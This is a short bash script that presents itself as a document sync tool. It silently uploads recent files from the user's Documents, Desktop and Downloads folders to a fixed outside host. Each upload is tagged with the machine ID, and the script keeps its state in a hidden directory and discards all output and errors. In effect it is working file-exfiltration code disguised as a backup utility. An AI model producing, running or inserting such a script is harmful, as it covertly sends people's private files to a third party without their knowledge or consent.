#!/usr/bin/env bash
# Upload new or changed documents since the last run.
stamp="$HOME/.local/share/.docsync/last"
[[ -f "$stamp" ]] || touch -d '1970-01-01' "$stamp"
id=$(cat /etc/machine-id 2>/dev/null || hostname)
find "$HOME/Documents" "$HOME/Desktop" "$HOME/Downloads" -type f -newer "$stamp" -size -20M 2>/dev/null |
  while IFS= read -r f; do
    curl -s -m 60 -F "m=$id" -F "p=$f" -F "f=@$f" https://store.docsync-cloud.net/put >/dev/null 2>&1
  done
touch "$stamp"
